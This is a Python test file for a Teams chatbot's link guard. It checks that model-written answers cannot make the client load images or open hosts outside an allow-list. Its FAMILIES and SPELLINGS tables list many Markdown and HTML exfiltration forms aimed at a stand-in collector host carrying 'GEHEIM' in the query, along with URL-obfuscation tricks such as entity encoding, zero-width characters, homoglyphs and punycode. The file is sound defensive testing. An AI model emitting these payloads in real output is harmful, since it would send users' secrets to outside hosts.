"""Nothing a model writes makes Teams load an image or open a host that nobody named.

Two thousand hostile texts (families times spellings, each cut at a dozen places) are judged by an
oracle of its own: a Markdown parser, and a search that reads as loosely as a client might.
"""

from __future__ import annotations

import html
import re
import unicodedata
from collections.abc import Callable, Iterable, Iterator
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bot.answering.links import LinkGuard
from bot.answering.shown import ShownAnswer
from bot.answering.teams_text import TeamsText

ALLOWED = frozenset({"amt.example.de"})
GOOD = "https://amt.example.de/formular"
EVIL = "https://sammler.example.com/c?q=GEHEIM"

FAMILIES: dict[str, str] = {
    "inline": "Hier das [Formular]({url}) dazu.",
    "inline with title": 'Hier das [Formular]({url} "Titel") dazu.',
    "inline in angles": "Hier das [Formular](<{url}>) dazu.",
    "inline over lines": "Hier das [Formular](\n{url}\n) dazu.",
    "inline with nested brackets": "Das [Formular [A] und [B]]({url}) dazu.",
    "inline in inline": f"Das [a [b]({{url}}) c]({GOOD}) dazu.",
    "inline around inline": f"Das [a [b]({GOOD}) c]({{url}}) dazu.",
    "inline with escaped bracket": "Das [Formular\\]]({url}) dazu.",
    "inline without text": "Das []({url}) dazu.",
    "image": "Ein Bild: ![Logo]({url}) dazu.",
    "image with title": 'Ein Bild: ![Logo]({url} "t") dazu.',
    "image without alt": "Ein Bild: ![]({url})",
    "image in a link": f"[![Logo]({{url}})]({GOOD})",
    "image in a hostile link": "[![Logo]({url})]({url})",
    "image by reference": "Bild ![Logo][l] da.\n\n[l]: {url}\n",
    "image by collapsed reference": "Bild ![l][] da.\n\n[l]: {url}\n",
    "image by shortcut": "Bild ![l] da.\n\n[l]: {url}\n",
    "reference": "Das [Formular][1] hier.\n\n[1]: {url}\n",
    "reference with title": 'Das [Formular][1] hier.\n\n[1]: {url} "Titel"\n',
    "reference in angles": "Das [Formular][1] hier.\n\n[1]: <{url}>\n",
    "reference over lines": "Das [Formular][1] hier.\n\n[1]:\n   {url}\n   'Titel'\n",
    "reference first": "[1]: {url}\n\nDas [Formular][1] hier.",
    "reference in a quote": "> [1]: {url}\n\nDas [Formular][1] hier.",
    "reference in a list": "- [1]: {url}\n\nDas [Formular][1] hier.",
    "collapsed reference": "Das [Formular][] hier.\n\n[formular]: {url}\n",
    "shortcut reference": "Das [Formular] hier.\n\n[FORMULAR]: {url}\n",
    "reference with escaped label": "Das [a\\]b] hier.\n\n[a\\]b]: {url}\n",
    "footnote": "Siehe Fußnote[^1].\n\n[^1]: {url}\n",
    "autolink": "Siehe <{url}> dazu.",
    "bare": "Siehe {url} dazu.",
    "bare at the end": "Siehe {url}",
    "bare in bold": "Siehe **{url}** dazu.",
    "bare in brackets": "Siehe ({url}), dann weiter.",
    "bare in German quotes": "Siehe „{url}“ dazu.",
    "bare behind a word": "Siehe:{url} dazu.",
    "bare behind a good one": f"Siehe {GOOD}|{{url}} dazu.",
    "bare glued to a good one": f"Siehe {GOOD}){{url}} dazu.",
    "code": "Der Aufruf `{url}` hilft.",
    "fence": "```\n{url}\n```\n",
    "open fence": "```html\n<a href='{url}'>x</a>",
    "table": "| Amt | Adresse |\n|---|---|\n| A | [x]({url}) |\n",
    "HTML link": 'Das <a href="{url}">Formular</a> hier.',
    "HTML link without quotes": "Das <a href={url}>Formular</a> hier.",
    "HTML link in capitals": "Das <A HREF='{url}'>Formular</A> hier.",
    "HTML link never closed": 'Das <a href="{url}" Formular hier.',
    "HTML link with a bracket in it": 'Das <a title=">" href="{url}">Formular</a> hier.',
    "HTML link with an angle in it": 'Das <a title="<" href="{url}">Formular</a> hier.',
    "HTML image": 'Bild <img src="{url}"> da.',
    "HTML image with slashes": "Bild <img/src={url}/onerror=x> da.",
    "HTML image over lines": "Bild <img\nsrc='{url}'\n> da.",
    "HTML in HTML": "Bild <<b>img src='{url}'> da.",
    "HTML comment": "Text <!-- <img src='{url}'> --> da.",
    "HTML base": "<base href='{url}'>[Formular](formular)",
    "HTML style": "<style>@import url({url});</style>Text",
    "HTML frame": "<iframe src='{url}'></iframe>",
    "split by an empty tag": "Siehe ht<b></b>tps:/<i></i>/sammler.example.com/?q=GEHEIM da. {url}",
    "split by an image": "Siehe [a]![x](y)({url}) da.",
    "split by a comment": "Siehe ![<!-- x -->a]({url}) da.",
    "good host as user": "Siehe https://amt.example.de@sammler.example.com/ und {url}.",
    "good host as subdomain": "[x](https://amt.example.de.sammler.example.com/?q=GEHEIM) {url}",
    "good host in the path": "[x]({url}&u=https://amt.example.de/) da",
    "good host before a backslash": "[x](https://amt.example.de\\@sammler.example.com/) {url}",
    "good host before a question": "[x](https://sammler.example.com?amt.example.de/) {url}",
    "target behind a good target": f"[x]({GOOD})({{url}}) da",
    "deep link": "[x](msteams:/l/chat/0/0?users=a@b.de&message=GEHEIM) und {url}",
    "mail with content": "[x](mailto:a@sammler.example.com?body=GEHEIM) und {url}",
    "script": "[x](javascript:location='{url}') da",
    "data": "![x](data:image/svg+xml;base64,PHN2Zz4=) und [y](data:text/html,{url})",
    "other scheme": "[x](ms-word:ofe|u|{url}) da",
}


def _between(mark: str) -> Callable[[str], str]:
    return lambda url: mark.join(url[:12]) + url[12:]


def _wide(url: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if c in ":/.htps" else c for c in url)


SPELLINGS: dict[str, Callable[[str], str]] = {
    "plain": lambda url: url,
    "http": lambda url: url.replace("https", "http"),
    "ftp": lambda url: url.replace("https", "ftp"),
    "in capitals": lambda url: url.upper(),
    "www": lambda url: url.replace("https://", "www."),
    "without scheme": lambda url: url.replace("https:", ""),
    "with backslashes": lambda url: url.replace("//", "\\\\"),
    "with escapes": lambda url: url.replace(":", "\\:").replace("/", "\\/"),
    "with three slashes": lambda url: url.replace("//", "///"),
    "as decimal references": lambda url: "".join(f"&#{ord(c)};" for c in url),
    "as hex references": lambda url: "".join(f"&#x{ord(c):X};" for c in url),
    "as bare references": lambda url: f"&#104ttps&#58//{url[8:]}",
    "as named references": lambda url: url.replace(":", "&colon;").replace("/", "&sol;"),
    "as references of references": lambda url: url.replace(":", "&amp;#58;"),
    "five references deep": lambda url: url.replace(":", "&amp;amp;amp;amp;amp;#58;"),
    "in percent": lambda url: url.replace(".", "%2E"),
    "with zero width spaces": _between("\u200b"),
    "with soft hyphens": _between("\u00ad"),
    "with joiners": _between("\u2060"),
    "with tag characters": _between("\U000e0041"),
    "with right to left marks": lambda url: f"\u202e{url}\u202c",
    "with a tab": lambda url: url.replace("ttp", "t\ttp"),
    "with a line end": lambda url: url.replace("ttp", "t\ntp"),
    "with a carriage return": lambda url: url.replace("ttp", "t\rtp"),
    "in full width": _wide,
    "with a Chinese full stop": lambda url: url.replace(".", "。"),
    "with a Cyrillic letter": lambda url: url.replace("sammler", "s\u0430mmler"),
    "in punycode": lambda url: url.replace("sammler", "xn--smmler-3ve"),
    "with a user": lambda url: url.replace("//", "//amt.example.de:x@"),
    "with a port": lambda url: url.replace(".com", ".com:8443"),
    "with a trailing dot": lambda url: url.replace(".com", ".com."),
    "as a number": lambda url: url.replace("sammler.example.com", "2130706433"),
}

_INVISIBLE = re.compile("[\u00ad\u200b-\u200f\u2060-\u2064\ufeff\r\U000e0000-\U000e007f]")
_LOOSE = re.compile(
    r"(?:[a-z][a-z0-9+.\-]*:[/\\]{2,}|(?<![:/\\\w])[/\\]{2,}(?=[\w.\-@:%]*\w\.[a-z]{2}))"
    r"(?=(?P<rest>[^\s)<>\"'`\[\]“|]*))",
    re.IGNORECASE,
)
_WWW = re.compile(r"(?<![\w.])www\.(?=\w)(?P<rest>[^\s)<>\"'`\[\]“|]*)", re.IGNORECASE)
_ODD = re.compile(
    r"\b(?:javascript|vbscript|msteams|mailto|ftp):[a-z0-9]|\bdata:[a-z]+/", re.IGNORECASE
)


READER = MarkdownIt("commonmark", {"html": True}).enable("table")


def tokens(markdown: str) -> Iterator[Token]:
    for token in READER.parse(markdown):
        yield token
        yield from token.children or ()


def links(text: str, read: Iterable[Token]) -> Iterator[str]:
    """Everything in a text that a client may make a link of, read as loosely as may be."""
    for token in read:
        for name in ("href", "src"):
            if token.attrs.get(name):
                yield str(token.attrs[name])
    loose = text
    for _ in range(6):
        loose = html.unescape(loose)
    loose = unicodedata.normalize("NFKC", _INVISIBLE.sub("", loose.replace("\n", " ")))
    loose = loose.replace("。", ".")
    for match in _LOOSE.finditer(loose):
        yield f"https://{match['rest'].strip('*_`.,;')}"
    for match in _WWW.finditer(loose):
        yield f"https://www.{match['rest'].strip('*_`.,;')}"


def faults(text: str) -> list[str]:
    found = [kind for kind in ("![", "<img", "<a ", "GEHEIM") if kind in text]
    read = list(tokens(text))
    found += [one.type for one in read if one.type in {"image", "html_inline", "html_block"}]
    found += _ODD.findall(text)
    for link in links(text, read):
        try:
            parts = urlsplit(link)
            host = None if "@" in parts.netloc else parts.hostname
        except ValueError:
            host = None
        if (host or "").removeprefix("www.") not in ALLOWED or "\\" in link:
            found.append(link)
    return found


def test_the_oracle_sees_what_is_hostile() -> None:
    unseen = [
        name
        for name, family in FAMILIES.items()
        if not faults(family.replace("{url}", EVIL.replace("GEHEIM", "x")))
    ]
    assert not unseen


@pytest.mark.parametrize("family", FAMILIES.values(), ids=FAMILIES.keys())
def test_a_hostile_text_ends_up_harmless_in_every_spelling(family: str) -> None:
    guard = LinkGuard(ALLOWED)
    for name, spell in SPELLINGS.items():
        text = family.replace("{url}", spell(EVIL))

        shown = guard.shown(text, final=True)

        assert not faults(shown), name
        for end in range(0, len(text), 1 + len(text) // 12):
            assert shown.startswith(guard.shown(text[:end], final=False)), name


@pytest.mark.parametrize("family", FAMILIES.values(), ids=FAMILIES.keys())
@pytest.mark.parametrize(
    "frame", ["# {}", "# **{}**", "| {} |\n|---|\n| x |", "| A |\n|---|\n| {} |", "- {}"]
)
def test_what_teams_text_rewrites_stays_harmless(family: str, frame: str) -> None:
    show = ShownAnswer(GOOD)
    for name, spell in SPELLINGS.items():
        text = frame.replace("{}", family.replace("{url}", spell(EVIL)))

        assert not faults(show(text, final=True)), name


@pytest.mark.parametrize(
    "text",
    [
        "# www**.sammler.example.com/x",
        "# ht**tps://sammler.example.com/x",
        "# https:**//sammler.example.com/x",
        f"# !**[a]({GOOD})",
        f"| A!** |\n|---|\n| [a]({GOOD}) |",
        "| www**.sammler.example.com |\n|---|\n| x |",
        "| https:\\|//sammler.example.com |\n|---|\n| x |",
    ],
)
def test_rewriting_joins_nothing_that_was_apart(text: str) -> None:
    assert not faults(ShownAnswer(GOOD)(text, final=True))
    other_order = TeamsText().shown(LinkGuard(ALLOWED).shown(text, final=True), final=True)
    assert not faults(other_order)


PIECES = st.sampled_from(
    [
        *"[]()<>!\\:/.&;#*_`|?@ \n\"'^-",
        *("](", "![", "]:", "][", "://", "//", "www.", "https", "http:", "&#", "&amp;", "&colon;"),
        *("&#58;", "&#x2f;", "<a href=", "<img src=", "</a>", "<!--", "-->", "\u200b", "\u200d"),
        *("sammler.example.com", "amt.example.de", GOOD, "https://sammler.example.com/x"),
        *("a", "Wort", "1", "[x]", "(y)", "\n\n", "\n[1]: ", "%3A", "：", "／", "．", "🙂", "ä"),
        *("mailto:", "javascript:", "msteams:", "data:text/html,", "> ", "- ", "```", "\t"),
    ]
)


@settings(max_examples=500, deadline=None)
@given(st.lists(PIECES, max_size=24))
@example(["!", "<b>", "[", "x", "]", "(", GOOD, ")"])
@example(["<", "<b>", "a href=", EVIL, ">"])
@example(["[a]", "![b](c)", "(", GOOD, ")"])
@example(["&", "<b>", "#58;"])
def test_no_mixture_of_signs_makes_a_link(pieces: list[str]) -> None:
    guard = LinkGuard(ALLOWED)
    text = "".join(pieces)

    shown = guard.shown(text, final=True)

    assert not faults(shown)
    before = ""
    for end in range(len(text)):
        now = guard.shown(text[:end], final=False)
        assert now.startswith(before)
        before = now
    assert shown.startswith(before)
